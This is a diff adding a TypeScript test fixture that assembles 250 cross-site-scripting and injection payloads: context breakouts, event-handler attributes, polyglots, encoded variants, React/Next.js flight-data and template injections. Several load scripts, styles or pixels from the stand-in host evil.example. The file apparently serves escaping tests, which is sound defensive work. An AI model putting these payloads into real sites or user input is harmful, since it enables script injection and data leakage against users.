@@ -1,0 +1,121 @@
+import { cross, exactly } from './cross'
+
+/** What would tell that a script ran: the browser tests define it, and it does nothing else. */
+const call = '__pwned(1)'
+
+/** Ways out of wherever a text may be put: text, attributes of each quoting, comments, raw-text elements, data in a script. */
+const ways = [
+  '¤',
+  '"> ¤',
+  "'> ¤",
+  '--> ¤',
+  '</title>¤',
+  '</textarea>¤',
+  '</style>¤',
+  '</script>¤',
+  '</noscript>¤',
+  '</select></option>¤',
+  ']]>¤',
+  '\\"]);¤//',
+  '<!--<script>¤',
+  '"><svg><desc>¤',
+] as const
+
+const elements = [
+  `<script>${call}</script>`,
+  `<img src=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<math><mtext><mglyph><style><img src=x onerror=${call}></style>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
+  `<a href="javascript:${call}" autofocus>x</a>`,
+  `<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>`,
+  `<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">`,
+  `<form action=//evil.example/><input type=submit autofocus></form>`,
+] as const
+
+/** Attributes put into a tag that is open. */
+const attributes = [
+  `" autofocus onfocus=${call} x="`,
+  `' autofocus onfocus=${call} x='`,
+  ` autofocus onfocus=${call} x=`,
+  `" style="animation-name:x" onanimationstart=${call} x="`,
+  `" formaction=javascript:${call} x="`,
+  `\` onmouseover=${call} x=\``,
+  `"/onpointerover=${call}//`,
+  `" onbeforetoggle=${call} popover x="`,
+  `" dangerouslySetInnerHTML="{__html:${call}}" x="`,
+  `" is="x-evil" slot="y" ref="z`,
+] as const
+
+/** Data that looks like code to one part or another of what renders these pages. */
+const data = [
+  `javascript:${call}`,
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
+  `java\tscript:${call}`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgxKTwvc2NyaXB0Pg==`,
+  `\u003cscript\u003e${call}\u003c/script\u003e`,
+  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#x3c;img src=x onerror=${call}&#x3e;`,
+  `＜script＞${call}＜/script＞`,
+  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
+  `<script\u2028>${call}</script\u2029>`,
+  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
+  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
+  `["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${call}"}}]`,
+  `$Sreact.fragment`,
+  `1:["$","img",null,{"onError":"${call}"}]\n0:["$","$L1",null,{}]`,
+  `$ACTION_ID_7f0000000000000000000000000000000000000000`,
+  `$L1 $@1 $F1 $T1 $undefined $NaN $-Infinity $D2026-01-01 $n1 $Q1 $W1`,
+  `"]);${call};self.__next_f.push([1,"`,
+  `</script><script nonce="">${call}</script>`,
+  `</script nonce=x><script/src=//evil.example/x.js>`,
+  `<!--[if IE]><script>${call}</script><![endif]-->`,
+  `<?xml-stylesheet href="javascript:${call}"?>`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
+  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `<%= ${call} %>`,
+  `#{${call}}`,
+  `{{#with "s" as |string|}}${call}{{/with}}`,
+  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
+  `<svg/onload=&#95;&#95;pwned&#40;1&#41;>`,
+  `<a href="&#106;avascript:${call}">x</a>`,
+  `<button popovertarget=x>y</button><b popover id=x onbeforetoggle=${call}>z</b>`,
+  `<video><source onerror=${call}></video>`,
+  `<audio src=x onerror=${call}>`,
+  `<body onload=${call}>`,
+  `<marquee onstart=${call}>x</marquee>`,
+  `<isindex action=javascript:${call} type=image>`,
+  `<embed src=javascript:${call}>`,
+  `<portal src=javascript:${call}></portal>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><a xlink:href=javascript:${call}><text y=9>x</text></a></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<math href=javascript:${call}>x</math>`,
+  `<form id=x tabindex=1 autofocus onfocus=${call}></form>`,
+  `<style>*{background:url(//evil.example/css)}</style>`,
+  `<div id=__next_f name=self></div><form id=self><input name=__next_f></form>`,
+  `<img name=cookie><img name=currentScript><form id=location href=//evil.example>`,
+  `<meta http-equiv=content-security-policy content="script-src *">`,
+  `<link rel=preload as=script href=//evil.example/x.js>`,
+  `<link rel=dns-prefetch href=//evil.example>`,
+  `<img src=//evil.example/pixel.gif>`,
+  `<img srcset="//evil.example/a 1x, //evil.example/b 2x">`,
+  `<iframe src=//evil.example></iframe>`,
+  `//evil.example/%2f..`,
+  `\\\\evil.example\\share`,
+] as const
+
+/** 250 texts that would run a script, load something foreign or change the page where a sink does not escape. */
+export const scripts = exactly(250, [
+  ...data,
+  ...attributes,
+  ...cross(ways, elements),
+  ...cross(['<b ¤>x</b>'], attributes),
+])
